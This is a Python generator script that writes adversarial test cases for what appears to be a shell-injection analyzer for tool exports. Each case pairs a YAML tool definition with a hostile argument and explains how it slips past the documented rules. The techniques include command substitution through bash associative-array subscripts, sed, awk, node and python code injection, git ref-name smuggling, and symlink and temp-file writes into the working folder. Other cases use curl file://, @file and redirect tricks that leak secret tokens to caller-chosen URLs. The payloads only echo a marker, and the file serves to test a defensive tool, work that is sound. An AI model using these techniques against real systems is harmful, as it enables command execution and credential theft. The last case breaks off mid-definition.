#!/usr/bin/env python3
"""Writes blind34r20/attacks/NNN-name.yaml + .json and attacks/then/*.yaml (written for this round,
from the docs only; the format of blind34r19's generator)."""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SUB = "$(echo HARBOR-PWNED-$((6*7)) >&2)"
SH = "echo HARBOR-PWNED-$((6*7)) >&2"
SEDE = "1e " + SH + " #"
AWKSYS = 'system("echo HARBOR-PWNED-" 6*7)'
MKSH = "app $(shell echo HARBOR-PWNED-$$((6*7)) >&2)"   # make: $$ is one $ for the shell
ARITH = "x[$(echo HARBOR-PWNED-$((6*7)) >&2)]"
# git ref names hold no blank and no '*': ${IFS} and 6+36 instead
REF_SED = "x/;1eecho${IFS}HARBOR-PWNED-$((6+36))>&2;#"
REF_AWK = 'a","b"}BEGIN{system("echo${IFS}HARBOR-PWNED-"6+36)}#'
BRANCH_PAT = "^[^\\s~^:?*\\[\\\\]{1,120}$"
BRANCH_Y = "'" + BRANCH_PAT + "'"
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
ATT = []
THEN = {}


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def T(name, y):
    THEN[name] = y.strip() + "\n"


# ============================================================ assoc-builtin-subscript
A("assoc-unset-dq", "assoc-builtin-subscript", r'''
name: ack_alerts
description: Acknowledge alerts by id and list the alerts of the application log still pending.
args:
  ids: {type: string, minLength: 1, maxLength: 500, description: "comma-separated alert ids, e.g. alert-3,alert-7"}
required: [ids]
timeout: 30
steps:
  - name: ack
    run: |
      declare -A pending=()
      while IFS= read -r a; do
        pending["$a"]=1
      done < <(grep -o -e 'alert-[0-9]*' logs/app.log | sort -u || true)
      IFS=, read -r -a acks <<< "$ARG_ids"
      for id in "${acks[@]}"; do
        unset "pending[$id]"
      done
      printf 'still pending: %s\n' "${!pending[@]}"
''', {"ids": "alert-1," + SUB},
  "Rule 6 (security.md §7) lets a caller value be the key of an associative array proven associative by an unconditional `declare -A` at the top, and reads the subscript of a name given to `unset` \"the same way, quoted or not\". For an associative array bash expands the subscript of `unset`'s operand once more when the builtin runs: with `unset \"pending[$id]\"` (double quotes) the key's `$(...)` runs. (`unset 'pending[$id]'` would be safe; the docs treat both alike.)")

A("assoc-printf-v", "assoc-builtin-subscript", r'''
name: service_ports
description: Say which port each named service listens on.
args:
  services: {type: string, minLength: 1, maxLength: 300, description: "comma-separated service names, e.g. web,api"}
required: [services]
timeout: 30
steps:
  - name: ports
    run: |
      declare -A port=([web]=8080 [api]=9090 [db]=5432)
      declare -A chosen=()
      IFS=, read -r -a svcs <<< "$ARG_services"
      for s in "${svcs[@]}"; do
        printf -v "chosen[$s]" '%s' "${port[$s]:-unknown}"
      done
      for s in "${!chosen[@]}"; do printf '%s -> %s\n' "$s" "${chosen[$s]}"; done
''', {"services": "web," + SUB},
  "Both arrays are proven associative (top-level `declare -A`), so a caller key is accepted (`${port[$ARG_service]}` is the docs' own example). `printf -v NAME` is one of the builtins whose name's subscript the docs say is read \"the same way\"; bash expands an associative subscript given to `printf -v` again, so `$(...)` in the key runs.")

A("assoc-read-name", "assoc-builtin-subscript", r'''
name: parse_settings
description: Parse key=value settings lines and print them normalised.
args:
  settings: {type: string, multiline: true, minLength: 1, maxLength: 4000, description: "key=value lines"}
required: [settings]
timeout: 30
steps:
  - name: parse
    run: |
      declare -A conf=()
      while IFS='=' read -r key value; do
        [[ -n $key ]] || continue
        read -r "conf[$key]" <<< "$value"
      done <<< "$ARG_settings"
      for k in "${!conf[@]}"; do printf '%s = %s\n' "$k" "${conf[$k]}"; done
''', {"settings": "mode=fast\n" + SUB + "=1\n"},
  "`read NAME` into an element of a proven-associative array with a caller key: the docs read `read`'s name subscript the same way as `${conf[$key]}` (a key of an associative array is data). bash expands the subscript of a name `read` assigns once more, so the key's `$(...)` runs.")

A("assoc-declare-name", "assoc-builtin-subscript", r'''
name: label_set
description: Build a set of labels from name=value pairs and print it sorted.
args:
  labels: {type: string, minLength: 1, maxLength: 500, description: "comma-separated name=value pairs"}
required: [labels]
timeout: 30
steps:
  - name: labels
    run: |
      declare -A labels=()
      IFS=, read -r -a pairs <<< "$ARG_labels"
      for p in "${pairs[@]}"; do
        k=${p%%=*}
        declare "labels[$k]=${p#*=}"
      done
      for k in "${!labels[@]}"; do printf '%s=%s\n' "$k" "${labels[$k]}"; done | sort
''', {"labels": "team=core," + SUB + "=x"},
  "`declare` is one of the builtins whose operand's subscript the docs read like the key of the array (rule 6); the array is proven associative. bash evaluates the subscript in `declare \"labels[$k]=…\"` again when the builtin runs, so the caller's key runs `$(...)`.")

A("assoc-test-v", "assoc-builtin-subscript", r'''
name: unique_tags
description: Print the given tags once each, in the order first seen.
args:
  tags: {type: string, minLength: 1, maxLength: 500, description: "comma-separated tags"}
required: [tags]
timeout: 30
steps:
  - name: dedupe
    run: |
      declare -A seen=()
      out=()
      IFS=, read -r -a tags <<< "$ARG_tags"
      for t in "${tags[@]}"; do
        if [ -v "seen[$t]" ]; then continue; fi
        seen["$t"]=1
        out+=("$t")
      done
      printf '%s\n' "${out[@]}"
''', {"tags": "a,b," + SUB},
  "`test -v`/`[ -v ]` of an element of a proven-associative array with the caller's key, read by the docs like `${seen[$t]}` (rule 6 lists `test -v` among the builtins read the same way). The `[ ]` builtin expands the associative subscript of its operand once more: `$(...)` in the tag runs.")

A("assoc-unset-v-json", "assoc-builtin-subscript", r'''
name: feature_flags
description: Show the feature flags of config/app.json, without the ones named.
args:
  hide: {type: string, maxLength: 300, default: "", description: "comma-separated flags not to show"}
timeout: 30
steps:
  - name: flags
    run: |
      declare -A feat=()
      while IFS=$'\t' read -r k v; do
        feat["$k"]=$v
      done < <(jq -r '.features | to_entries[] | "\(.key)\t\(.value)"' config/app.json)
      IFS=, read -r -a drop <<< "$ARG_hide"
      for d in "${drop[@]}"; do unset -v "feat[$d]"; done
      for k in "${!feat[@]}"; do printf '%s: %s\n' "$k" "${feat[$k]}"; done
''', {"hide": "beta," + SUB},
  "Same class with `unset -v` on a map filled from the author's JSON: the key is the caller's, the array proven associative, and bash re-expands the subscript in `unset -v \"feat[$d]\"`.")

# ============================================================ unmatched-glob-keeps-caller-text
A("glob-unmatched-sed", "unmatched-glob", r'''
name: report_banner
description: Render the docs index with the name of the newest report file of a month.
args:
  month: {type: string, minLength: 1, maxLength: 120, description: "the month, e.g. 2024-01"}
required: [month]
timeout: 30
steps:
  - name: render
    run: |
      files=(data/report-"$ARG_month"-*.csv)
      latest=${files[-1]}
      sed "s|@REPORT@|${latest##*/}|g" docs/index.md
''', {"month": "x|;" + SEDE},
  "Round seventeen accepts the names a glob matches when its pattern starts with the author's character (`files=(data/report-\"$ARG_m\"-*.csv)`) as the folder's names, and round nineteen `${x##*/}` as a name; a name of the author's folder is the author's text, allowed in a sed program. Without `nullglob`, a pattern that matches nothing stays as it was written, caller's text included: `files[-1]` is `data/report-<month>-*.csv`, and the month closes sed's `s` and runs `e`.")

A("glob-unmatched-awk", "unmatched-glob", r'''
name: service_log_summary
description: Count the ERROR lines of a service's log files.
args:
  service: {type: string, minLength: 1, maxLength: 120, description: "the service, e.g. app"}
required: [service]
timeout: 30
steps:
  - name: count
    run: |
      files=(logs/"$ARG_service"*.log)
      awk "BEGIN { print \"files: ${files[*]}\" } /ERROR/ { n++ } END { print n + 0 }" "${files[@]}"
''', {"service": 'x" ; ' + AWKSYS + ' ; print "'},
  "The glob is led by the author's `logs/`, so its names count as the folder's; the docs let the author's text into an awk program. An unmatched pattern is kept verbatim by bash, the service's text with it, and BEGIN runs before awk finds the file missing.")

A("glob-unmatched-node", "unmatched-glob", r'''
name: notes_size
description: Print the size of the release notes of a version.
args:
  version: {type: string, minLength: 1, maxLength: 200, description: "the version, e.g. 1.4.2"}
required: [version]
timeout: 30
steps:
  - name: size
    run: |
      notes=(releases/notes-"$ARG_version"*.txt)
      node -e "const fs = require('fs'); const p = '${notes[0]}'; console.log(p, fs.existsSync(p) ? fs.statSync(p).size : 'missing')"
''', {"version": "x'; require('child_process').execSync('echo HARBOR-PWNED-' + 6*7, {stdio: 'inherit'}); '"},
  "The first name of a glob led by the author's `releases/` in a literal node program (author's text, rule 2). With no file matching, bash keeps the pattern, so the program holds the caller's version: a `'` closes the string and `child_process` runs.")

A("glob-unmatched-loop-python", "unmatched-glob", r'''
name: env_files
description: List the environment files of a deploy target and their sizes.
args:
  target: {type: string, minLength: 1, maxLength: 200, description: "the deploy target, e.g. staging"}
required: [target]
timeout: 30
steps:
  - name: list
    run: |
      for f in deploy/envs/"$ARG_target"*.yaml; do
        python3 -c "import os; p = '$f'; print(p, os.path.getsize(p) if os.path.exists(p) else 'missing')"
      done
''', {"target": "x'; import os as o; o.system('echo HARBOR-PWNED-' + str(6*7)); p = '"},
  "Round nineteen accepts a loop over a glob led by the author's character (`for f in .github/workflows/*.yml`): the loop variable is a name of the folder. With caller text in the pattern and no match, the loop runs once with the pattern itself, which a literal python program then holds.")

# ============================================================ guard-scope
A("guard-continue-after-loop", "guard-scope", r'''
name: log_lines
description: Print the given line numbers of the application log, then the lines after the last one.
args:
  lines: {type: string, minLength: 1, maxLength: 200, description: "line numbers, comma-separated, e.g. 3,10,42"}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      IFS=, read -r -a wanted <<< "$ARG_lines"
      for n in "${wanted[@]}"; do
        [[ $n =~ ^[0-9]+$ ]] || continue
        sed -n "${n}p" logs/app.log
      done
      echo "--- after line $n"
      sed -n "${n},+3p" logs/app.log
''', {"lines": "2," + SEDE},
  "Round nineteen: a guard that leaves (`[[ $a =~ … ]] || continue`) makes the names digits below it. `continue` leaves one iteration only: after the loop `n` holds the last item, digits or not, and the sed program below the guard gets it.")

A("guard-break-after-loop", "guard-scope", r'''
name: sum_counts
description: Add up a list of counts, stopping at the first entry that is not a number, and report where it stopped.
args:
  counts: {type: string, minLength: 1, maxLength: 300, description: "comma-separated counts"}
required: [counts]
timeout: 30
steps:
  - name: sum
    run: |
      total=0
      IFS=, read -r -a items <<< "$ARG_counts"
      for n in "${items[@]}"; do
        [[ $n =~ ^[0-9]+$ ]] || break
        total=$(( total + n ))
      done
      awk "BEGIN { printf \"total %d, last entry %d\\n\", $total, $n }"
''', {"counts": "3,4,1; " + AWKSYS},
  "A digits guard that leaves with `break`: below it, by the docs' reading, `n` is digits. `break` leaves the loop with `n` set to the entry that failed the guard, and the awk program after the loop is below the guard.")

A("guard-case-branch", "guard-scope", r'''
name: log_slice
description: Print the application log up to a line, or from a line to the end.
args:
  mode: {type: string, enum: [first, from], default: first}
  line: {type: string, minLength: 1, maxLength: 100, default: "20", description: "a line number"}
timeout: 30
steps:
  - name: slice
    run: |
      n=$ARG_line
      case $ARG_mode in
        first)
          [[ $n =~ ^[0-9]+$ ]] || { echo "line must be a number" >&2; exit 2; }
          sed -n "1,${n}p" logs/app.log ;;
        from)
          sed -n "${n},\$p" logs/app.log ;;
      esac
''', {"mode": "from", "line": SEDE},
  "The guard leaves (`|| { …; exit 2; }`), and the `from)` branch is below it in the text; but it runs only in the `first)` branch, so with mode=from `n` reaches sed unchecked.")

A("guard-if-branch", "guard-scope", r'''
name: last_errors
description: Print the last N lines of the application log that mention ERROR (strict checks N).
args:
  strict: {type: boolean, default: true}
  last: {type: string, minLength: 1, maxLength: 100, default: "20", description: "how many lines"}
timeout: 30
steps:
  - name: errors
    run: |
      n=$ARG_last
      if [[ $ARG_strict == true ]]; then
        [[ $n =~ ^[0-9]+$ ]] || { echo "last must be a number" >&2; exit 2; }
      fi
      grep -e ERROR logs/app.log | awk "NR <= $n" || true
''', {"strict": False, "last": "1 || " + AWKSYS},
  "A guard that leaves, inside an `if`: the awk program is below it, so the docs' reading makes `n` digits there; with strict=false the guard never ran.")

A("guard-continue-in-function", "guard-scope", r'''
name: log_line_list
description: Print the given line numbers of the application log.
args:
  lines: {type: string, minLength: 1, maxLength: 200, description: "line numbers, comma-separated"}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      show_line() {
        local n=$1
        [[ $n =~ ^[0-9]+$ ]] || continue
        sed -n "${n}p" logs/app.log
      }
      IFS=, read -r -a wanted <<< "$ARG_lines"
      for n in "${wanted[@]}"; do
        show_line "$n"
      done
''', {"lines": "2," + SEDE},
  "`[[ … ]] || continue`, the third guard round nineteen lists, in a helper called from the loop. bash 5.2 does not let `continue` in a function reach the caller's loop: it prints `continue: only meaningful in a loop`, returns 0, and the function goes on to sed with the non-number.")

# ============================================================ shifted-positionals
A("shift-sed", "shifted-positionals", r'''
name: file_head
description: Show the first lines of the changelog or the readme.
args:
  which: {type: string, enum: [changelog, readme], default: changelog}
  lines: {type: string, minLength: 1, maxLength: 100, default: "10", description: "how many lines"}
timeout: 30
steps:
  - name: head
    run: |
      head_of() {   # head_of FILE N
        local file=$1; shift
        sed -n "1,${1}p" -- "$file"
      }
      case $ARG_which in
        changelog) head_of CHANGELOG.md "$ARG_lines" ;;
        readme) head_of README.md "$ARG_lines" ;;
      esac
''', {"lines": SEDE},
  "Round eighteen/nineteen judge a function's positional parameters by what every call passes: here every call's `$1` is a literal file name of the author's, so the sed program's `$1` is the author's text. After `shift`, bash's `$1` is the call's second word, the caller's count.")

A("shift-awk", "shifted-positionals", r'''
name: error_threshold
description: Say for each log whether its ERROR lines are over a threshold.
args:
  threshold: {type: string, minLength: 1, maxLength: 100, default: "10"}
timeout: 30
steps:
  - name: check
    run: |
      count_in() {   # count_in LABEL FILE THRESHOLD
        local label=$1; shift
        awk -v label="$label" "/ERROR/ { n++ } END { print label \": \" n + 0, (n > $2 ? \"over\" : \"ok\") }" "$1"
      }
      count_in app logs/app.log "$ARG_threshold"
      count_in worker logs/worker.log "$ARG_threshold"
''', {"threshold": "0) " + AWKSYS + "; print (1"},
  "Every call passes literal words as `$1` and `$2` (`app logs/app.log`), so the awk program's `$2` is the author's by the docs' reading of function arguments; after `shift` it is the call's third word, the caller's threshold.")

A("shift-arith", "shifted-positionals", r'''
name: capacity
description: How many requests per second a load comes to with 50 % headroom.
args:
  load: {type: string, minLength: 1, maxLength: 100, description: "requests per second"}
required: [load]
timeout: 30
steps:
  - name: plan
    run: |
      pct() {   # pct PERCENT N
        local p=$1; shift
        echo $(( $1 * p / 100 ))
      }
      printf 'baseline: %s\n' "$(pct 150 40)"
      printf 'needed:   %s\n' "$(pct 150 "$ARG_load")"
''', {"load": ARITH},
  "Round eighteen: a function's `$1` in arithmetic is accepted when every call passes a literal number, and each call here passes 150. After `shift`, `$1` is the second word, the caller's load, which `$(( ))` evaluates (its subscript runs a command).")

A("shift-curl-secret", "shifted-positionals", SEC + r'''
name: api_fetch
description: Fetch the items list, and a mirror copy of it.
args:
  mirror: {type: string, minLength: 1, maxLength: 300, description: "the mirror to compare with"}
required: [mirror]
timeout: 30
steps:
  - name: fetch
    run: |
      get() {   # get LABEL URL
        local label=$1; shift
        printf '== %s\n' "$label"
        curl -fsS --max-time 5 -u "ci:$API_TOKEN" -- "$1" || true
      }
      get items "http://127.0.0.1:18766/v1/items"
      get mirror "$ARG_mirror"
''', {"mirror": "http://127.0.0.1:18765/v1/items"},
  "Round nineteen accepts a function's `$1` as a destination when every call passes the author's words there (`get() { curl -u … \"$1\"; }`); each call's `$1` here is a literal label. After `shift` curl's `$1` is the second word: the second call sends the token to the caller's URL.")

# ============================================================ repo-refs-cross-export
A("ref-switch-branch-sed", "repo-refs", r'''
name: start_feature
description: Start a feature branch and render the docs index with its name.
args:
  branch: {type: string, pattern: ''' + BRANCH_Y + r''', description: "the new branch's name"}
required: [branch]
timeout: 30
steps:
  - name: branch
    env: {GIT_PAGER: cat}
    run: git switch -q -c "$ARG_branch"
  - name: render
    env: {GIT_PAGER: cat}
    run: |
      b=$(git rev-parse --abbrev-ref HEAD)
      sed "s/@BRANCH@/$b/g" docs/index.md
''', {"branch": REF_SED},
  "Rule 2: what a git command that only reads the repository prints is the author's text \"when no step writes caller data into the repository with git commit, git tag, git notes…\" (round nineteen: a commit message, an annotated tag). A branch name is written by `git switch -c`, and `git rev-parse --abbrev-ref HEAD` prints it back; ref names may hold `$ ( ) { } ; / \" >`.")

A("ref-branch-xexp-awk", "repo-refs", r'''
name: create_branch
description: Create a branch at the current commit.
args:
  name: {type: string, pattern: ''' + BRANCH_Y + r''', description: "the branch's name"}
required: [name]
timeout: 30
steps:
  - name: create
    env: {GIT_PAGER: cat}
    run: git branch -- "$ARG_name"
''', {"name": REF_AWK},
  "The writer alone is accepted (`git branch` writes no file of the working folder, only a ref). The follow-up `branch_table` puts each branch name `git for-each-ref` prints into an awk program, as the repository's (author's) text.",
  then=[{"export": "branch_table", "args": {}}])

A("ref-checkout-xexp-sed", "repo-refs", r'''
name: checkout_new
description: Create and check out a new branch.
args:
  name: {type: string, pattern: ''' + BRANCH_Y + r''', description: "the branch's name"}
required: [name]
timeout: 30
steps:
  - name: checkout
    env: {GIT_PAGER: cat}
    run: git checkout -q -b "$ARG_name"
''', {"name": REF_SED},
  "`git checkout -b` writes the caller's branch name into the repository; the follow-up `branch_banner` (no arguments) puts `git rev-parse --abbrev-ref HEAD` into a sed program as the repository's text.",
  then=[{"export": "branch_banner", "args": {}}])

A("ref-remote-xexp-awk", "repo-refs", r'''
name: add_mirror
description: Register a mirror of the repository as a remote.
args:
  name: {type: string, pattern: ''' + BRANCH_Y + r''', description: "the remote's name"}
  url: {type: string, pattern: "^https://[A-Za-z0-9.-]+/[A-Za-z0-9._/-]+$", description: "the mirror's URL"}
required: [name, url]
timeout: 30
steps:
  - name: add
    env: {GIT_PAGER: cat}
    run: git remote add -- "$ARG_name" "$ARG_url"
''', {"name": REF_AWK, "url": "https://mirror.example.com/app.git"},
  "A remote's name is repository text no listed writer (commit, tag, notes) puts there; the follow-up `remote_table` reads `git remote` into an awk program as the author's text.",
  then=[{"export": "remote_table", "args": {}}])

A("ref-worktree-branch", "repo-refs", r'''
name: build_branch
description: Check out a new branch in a throwaway worktree of the run directory and list its files.
args:
  branch: {type: string, pattern: ''' + BRANCH_Y + r''', description: "the branch to create"}
required: [branch]
timeout: 30
steps:
  - name: worktree
    env: {GIT_PAGER: cat}
    run: |
      git worktree add -q -b "$ARG_branch" "$HARBOR_RUN_DIR/wt"
      git -C "$HARBOR_RUN_DIR/wt" ls-files | head -n 5
''', {"branch": REF_AWK},
  "`git worktree add -b` creates the branch in the project's repository (the worktree itself is in the run directory); the follow-up `branch_table` puts the branch names into awk as the repository's text.",
  then=[{"export": "branch_table", "args": {}}])

# ============================================================ cross-export-absolute-path
A("abs-state-jq-sed", "cross-export-absolute", r'''
name: set_display_name
description: Set the display name the dashboard shows (kept in the app's state folder /var/tmp/r20-app).
args:
  name: {type: string, minLength: 1, maxLength: 120}
required: [name]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p /var/tmp/r20-app
      jq -n --arg n "$ARG_name" '{display_name: $n}' > /var/tmp/r20-app/state.json
''', {"name": "x/;" + SEDE},
  "Rule 7 counts the working folder as written only after a redirection of caller data \"to a path that is not absolute or in $HARBOR_RUN_DIR\"; round nineteen's gate of exports served together looks at files of the shared (working) folder. An absolute state folder shared by the exports of one server is neither: the follow-up `state_banner` reads `jq -r .display_name` of a file no step of its own writes (rule 2: author's text) into a sed program.",
  then=[{"export": "state_banner", "args": {}}])

A("abs-state-cat-awk", "cross-export-absolute", r'''
name: set_motd
description: Set the message of the day (kept in /var/tmp/r20-app/motd).
args:
  text: {type: string, minLength: 1, maxLength: 200}
required: [text]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p /var/tmp/r20-app
      printf '%s\n' "$ARG_text" > /var/tmp/r20-app/motd
''', {"text": 'hi"; ' + AWKSYS + '; print "'},
  "The writer puts the caller's text in an absolute file outside the working folder; the follow-up `motd_banner` puts `$(cat /var/tmp/r20-app/motd)` into awk's BEGIN as the output of `cat` on a file no step writes.",
  then=[{"export": "motd_banner", "args": {}}])

A("abs-state-read-arith", "cross-export-absolute", r'''
name: record_build
description: Record the number of the last build (in /var/tmp/r20-app/last_build).
args:
  build: {type: string, minLength: 1, maxLength: 100}
required: [build]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p /var/tmp/r20-app
      printf '%s\n' "$ARG_build" > /var/tmp/r20-app/last_build
''', {"build": ARITH},
  "Round fifteen accepts what `read` takes from a file no step can write (`< /proc/loadavg`) as the author's text; the follow-up `next_build` reads the absolute state file this export wrote and evaluates it in `$(( ))`.",
  then=[{"export": "next_build", "args": {}}])

A("abs-state-mapfile-node", "cross-export-absolute", r'''
name: add_region
description: Add a region to the regions the dashboard lists (in /var/tmp/r20-app/regions).
args:
  region: {type: string, minLength: 1, maxLength: 200}
required: [region]
timeout: 30
steps:
  - name: add
    run: |
      mkdir -p /var/tmp/r20-app
      printf '%s\n' "$ARG_region" >> /var/tmp/r20-app/regions
''', {"region": "x'); require('child_process').execSync('echo HARBOR-PWNED-' + 6*7, {stdio: 'inherit'}); ('"},
  "Round seventeen accepts `mapfile` from a program that prints a file no step can write; the follow-up `region_list` maps `/var/tmp/r20-app/regions` and puts each line into a literal node program.",
  then=[{"export": "region_list", "args": {}}])

# ============================================================ temp-file-into-workdir
A("mktemp-dot-env-mv", "temp-into-workdir", r'''
name: set_app_name
description: Set the application's display name in .env (atomically) and print the project report.
args:
  name: {type: string, minLength: 1, maxLength: 120}
required: [name]
timeout: 30
steps:
  - name: save
    run: |
      tmp=$(mktemp .env.XXXXXX)
      printf 'APP_NAME=%s\n' "$ARG_name" > "$tmp"
      mv -f -- "$tmp" .env
  - name: report
    run: ./scripts/report.sh
''', {"name": "x$(" + SH + ")"},
  "Round nineteen accepts a file written through a variable set once to a temporary folder (`$(mktemp …)`). The template `.env.XXXXXX` is relative, so mktemp makes it in the working folder, and the `mv` that follows has only clean words (two paths of the author's), so no command with caller data writes the working folder by rule 7; the project's `report.sh` then sources `.env`.")

A("mktemp-p-local-mk", "temp-into-workdir", r'''
name: set_target
description: Set the make target name for local builds and run the report.
args:
  target: {type: string, minLength: 1, maxLength: 120}
required: [target]
timeout: 30
steps:
  - name: save
    run: |
      tmp=$(mktemp -p . local.mk.XXXXXX)
      printf 'TARGET = %s\n' "$ARG_target" > "$tmp"
      mv -f -- "$tmp" local.mk
  - name: report
    run: make -s report
''', {"target": MKSH},
  "`mktemp -p .` names a temporary file of the working folder; a file written through the variable counts as temporary, and the clean `mv` puts it at `local.mk`, which the Makefile includes: `$(shell …)` in the value runs when make reads it.")

A("mktemp-install-env", "temp-into-workdir", r'''
name: set_title
description: Set the report title in .env and print the report.
args:
  title: {type: string, minLength: 1, maxLength: 120}
required: [title]
timeout: 30
steps:
  - name: save
    run: |
      tmp=$(mktemp)
      printf 'REPORT_TITLE=%s\n' "$ARG_title" > "$tmp"
      install -m 0644 -- "$tmp" .env
      rm -f -- "$tmp"
  - name: report
    run: ./scripts/report.sh
''', {"title": "x$(" + SH + ")"},
  "The caller's text goes to a real temporary file (accepted: a temporary folder), then `install` copies it over `.env` with clean words only (two paths). Rule 7 counts a command as writing the working folder only if it has caller data; `report.sh` sources `.env`.")

A("mktemp-xexp-local-mk", "temp-into-workdir", r'''
name: set_build_target
description: Set the make target used by local builds.
args:
  target: {type: string, minLength: 1, maxLength: 120}
required: [target]
timeout: 30
steps:
  - name: save
    run: |
      tmp=$(mktemp local.mk.XXXXXX)
      printf 'TARGET = %s\n' "$ARG_target" > "$tmp"
      mv -f -- "$tmp" local.mk
''', {"target": MKSH},
  "The same temporary-file write, across exports: no command of this export has caller data and writes the shared folder, so the gate of exports served together sees no writer; the follow-up `build_report` runs `make report`.",
  then=[{"export": "build_report", "args": {}}])

# ============================================================ run-dir-link-to-workdir
A("rundir-link-env", "rundir-link", r'''
name: stage_env
description: Stage the project in the run directory, set its app name, and run the report.
args:
  name: {type: string, minLength: 1, maxLength: 120}
required: [name]
timeout: 30
steps:
  - name: stage
    run: |
      ln -s "$PWD" "$HARBOR_RUN_DIR/src"
      printf 'APP_NAME=%s\n' "$ARG_name" > "$HARBOR_RUN_DIR/src/.env"
  - name: report
    run: ./scripts/report.sh
''', {"name": "x$(" + SH + ")"},
  "Files written under `$HARBOR_RUN_DIR` do not make the working folder the caller's (rule 7). The script itself made `$HARBOR_RUN_DIR/src` a link to the working folder, so the write lands in `./.env`, which `report.sh` sources.")

A("rundir-cp-rs-env", "rundir-link", r'''
name: shadow_build
description: Build a shadow tree of the project in the run directory, set the app name there, and run the report.
args:
  name: {type: string, minLength: 1, maxLength: 120}
required: [name]
timeout: 30
steps:
  - name: shadow
    run: |
      cp -rs -- "$PWD/." "$HARBOR_RUN_DIR/tree"
      printf 'APP_NAME=%s\n' "$ARG_name" > "$HARBOR_RUN_DIR/tree/.env"
  - name: report
    run: ./scripts/report.sh
''', {"name": "x$(" + SH + ")"},
  "`cp -rs` (a shadow tree of symbolic links, like lndir) copies only the author's paths, with clean words. The caller's text is then written to a run-directory path, which the docs count as the run's; it is a link to the project's `.env`, and the redirection writes through it.")

A("proc-self-cwd-mk", "rundir-link", r'''
name: set_make_target
description: Set the local make target and run the report.
args:
  target: {type: string, minLength: 1, maxLength: 120}
required: [target]
timeout: 30
steps:
  - name: save
    run: printf 'TARGET = %s\n' "$ARG_target" > /proc/self/cwd/local.mk
  - name: report
    run: make -s report
''', {"target": MKSH},
  "Rule 7 marks the working folder as written after a redirection of caller data to a path \"that is not absolute\"; `/proc/self/cwd/local.mk` is absolute, and is the working folder's `local.mk`.")

A("rundir-link-xexp", "rundir-link", r'''
name: stage_target
description: Stage the project in the run directory and set its make target.
args:
  target: {type: string, minLength: 1, maxLength: 120}
required: [target]
timeout: 30
steps:
  - name: stage
    run: |
      ln -s "$PWD" "$HARBOR_RUN_DIR/project"
      printf 'TARGET = %s\n' "$ARG_target" > "$HARBOR_RUN_DIR/project/local.mk"
''', {"target": MKSH},
  "The run-directory link, across exports: this export writes only \"the run directory\", so the gate of exports served together sees no writer of the shared folder; the follow-up `build_report` runs `make report`, which includes `local.mk`.",
  then=[{"export": "build_report", "args": {}}])

# ============================================================ sibling-file-secret
A("sibling-curl-file-url", "sibling-file-secret", r'''
name: probe_url
description: Fetch a URL and print the first lines of the answer (a health check).
args:
  url: {type: string, minLength: 1, maxLength: 500, description: "the URL to probe"}
required: [url]
timeout: 30
steps:
  - name: probe
    run: curl -fsS --max-time 5 -- "$ARG_url" | head -n 20
''', {"url": "file:///run/secrets/api_token"},
  "Round eighteen: a `{file:}` secret is safe from the exports served with it when its path is absolute (`/run/secrets/NAME`), since a `within:` path cannot name it. This export has no secret, so no H010 rule applies to its URL; curl's operand is a URL by its grammar, and `file://` names the sibling's secret, printed verbatim with no scrubber (the run has no secret of its own). `nightly_sync` is the export served beside it.",
  served_with=["nightly_sync"])

A("sibling-curl-data-at", "sibling-file-secret", r'''
name: post_webhook
description: Post a message to a webhook URL.
args:
  url: {type: string, pattern: "^https?://[A-Za-z0-9.:-]+/[A-Za-z0-9._/-]*$", description: "the webhook"}
  message: {type: string, minLength: 1, maxLength: 2000}
required: [url, message]
timeout: 30
steps:
  - name: post
    run: curl -fsS --max-time 5 --data "$ARG_message" -- "$ARG_url"
''', {"url": "http://127.0.0.1:18765/hook", "message": "@/run/secrets/api_token"},
  "`--data` is a data position of curl's grammar (the docs list it as a credential place too). A value starting with `@` makes curl send that file: the absolute `{file:}` secret of the export served beside it goes to the caller's webhook.",
  served_with=["nightly_sync"])

A("sibling-curl-form-lt", "sibling-file-secret", r'''
name: post_note
description: Post a note to a form endpoint.
args:
  url: {type: string, pattern: "^https?://[A-Za-z0-9.:-]+/[A-Za-z0-9._/-]*$"}
  note: {type: string, minLength: 1, maxLength: 2000}
required: [url, note]
timeout: 30
steps:
  - name: post
    run: curl -fsS --max-time 5 -F "note=$ARG_note" -- "$ARG_url"
''', {"url": "http://127.0.0.1:18765/notes", "note": "</run/secrets/api_token"},
  "`-F name=VALUE` with the caller's value after the author's `note=`: curl reads `<FILE` as the content of the field (and `@FILE` as an upload), so the sibling's absolute secret file is posted to the caller's host.",
  served_with=["nightly_sync"])

A("sibling-curl-urlencode-at", "sibling-file-secret", r'''
name: post_fields
description: Post one form field to an endpoint.
args:
  url: {type: string, pattern: "^https?://[A-Za-z0-9.:-]+/[A-Za-z0-9._/-]*$"}
  field: {type: string, minLength: 1, maxLength: 2000, description: "name=value"}
required: [url, field]
timeout: 30
steps:
  - name: post
    run: curl -fsS --max-time 5 --data-urlencode "$ARG_field" -- "$ARG_url"
''', {"url": "http://127.0.0.1:18765/form", "field": "text@/run/secrets/api_token"},
  "`--data-urlencode` takes `name@FILE` as \"the content of FILE\": a data position by the grammar, a file read in curl, so the sibling's secret is posted to the caller.",
  served_with=["nightly_sync"])

# ============================================================ redirect-body
A("curl-L-data-307", "redirect-body", SEC + r'''
name: submit_report
description: Submit a report to the reports API (the token goes in the form body).
args:
  path: {type: string, pattern: "^[A-Za-z0-9._/-]+$", description: "the report's path under the API"}
required: [path]
timeout: 30
steps:
  - name: submit
    run: |
      curl -fsS -L --max-time 5 --data "token=$API_TOKEN" \
        "http://127.0.0.1:18766/$ARG_path" || true
''', {"path": "go307/127.0.0.1/18765/steal"},
  "Round eighteen refuses `curl -L` with a secret \"unless the secret is only in `-u` or an `Authorization:`/`Cookie:` header\"; a secret in the request body is none of those and `--data` is curl's credential place. On a 307/308 redirect curl repeats the POST body to the new host: the author API's open redirect sends the token to the caller.")

A("curl-L-urlencode-307", "redirect-body", SEC + r'''
name: submit_form
description: Submit a form to the reports API.
args:
  path: {type: string, pattern: "^[A-Za-z0-9._/-]+$"}
  title: {type: string, maxLength: 200, default: "report"}
required: [path]
timeout: 30
steps:
